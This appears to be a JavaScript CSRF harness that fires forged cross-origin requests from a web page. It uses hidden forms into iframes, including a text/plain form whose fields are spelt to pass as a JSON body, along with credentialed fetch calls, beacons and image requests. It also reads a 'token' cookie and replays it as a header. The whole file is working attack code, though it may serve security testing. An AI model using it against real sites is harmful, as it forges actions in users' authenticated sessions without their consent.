/* Everything a page can send to another origin without asking first, and what it can try to. */

/** Fields as a form sends them; as plain text they are spelt so that a careless reader takes them for JSON. */
const fieldsOf = ({ shape, data }) => {
  if (shape !== 'textForm') return Object.entries(data).map(([name, value]) => [name, String(value)]);
  return [[`${JSON.stringify(data).slice(0, -1)},"x":"`, '"}']];
};

const kinds = { multipart: 'multipart/form-data', textForm: 'text/plain' };

/** A form that leads into a frame. */
const submit = async (attack, at) => {
  const frame = document.createElement('iframe');
  frame.name = `frame${at}`;
  const form = document.createElement('form');
  form.action = attack.url;
  form.method = attack.method;
  form.target = frame.name;
  form.enctype = kinds[attack.shape] ?? '';
  for (const [name, value] of fieldsOf(attack)) {
    const field = document.createElement('input');
    field.type = 'hidden';
    field.name = name;
    field.value = value;
    form.append(field);
  }
  document.body.append(frame, form);
  await new Promise((done) => {
    frame.addEventListener('load', done);
    form.submit();
    setTimeout(done, 3_000);
  });
  frame.remove();
  form.remove();
};

/** A request of a script; one that the browser refuses is as good as answered. */
const request = async ({ method, url, data }, options) => {
  const body = method === 'GET' ? null : JSON.stringify(data);
  const query = new URLSearchParams(fieldsOf({ data }));
  await fetch(method === 'GET' ? `${url}?${query}` : url, {
    method,
    body,
    credentials: 'include',
    ...options,
  }).catch(() => undefined);
};

const picture = ({ url, data }) =>
  new Promise((done) => {
    const image = new Image();
    image.addEventListener('load', done);
    image.addEventListener('error', done);
    image.src = `${url}?${new URLSearchParams(fieldsOf({ data }))}`;
  });

const send = (attack, at) => {
  // A cookie knows no ports: where a script may read it, the page has the token.
  const token = /(?:^|; )token=([^;]*)/.exec(document.cookie)?.[1] ?? '';
  switch (attack.shape) {
    case 'noCors':
      return request(attack, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } });
    case 'json':
      return request(attack, { headers: { 'content-type': 'application/json', token } });
    case 'patch':
      return request(attack, { headers: { 'content-type': 'application/json-patch+json', token } });
    case 'beacon':
      return navigator.sendBeacon(
        attack.url,
        new Blob([JSON.stringify(attack.data)], { type: 'text/plain' }),
      );
    case 'picture':
      return picture(attack);
    default:
      return submit(attack, at);
  }
};

/** So many at once: a browser has six connections to one place. */
const atOnce = 6;

globalThis.fire = async (attacks) => {
  for (let from = 0; from < attacks.length; from += atOnce)
    await Promise.all(attacks.slice(from, from + atOnce).map((attack, at) => send(attack, from + at)));
  return attacks.length;
};
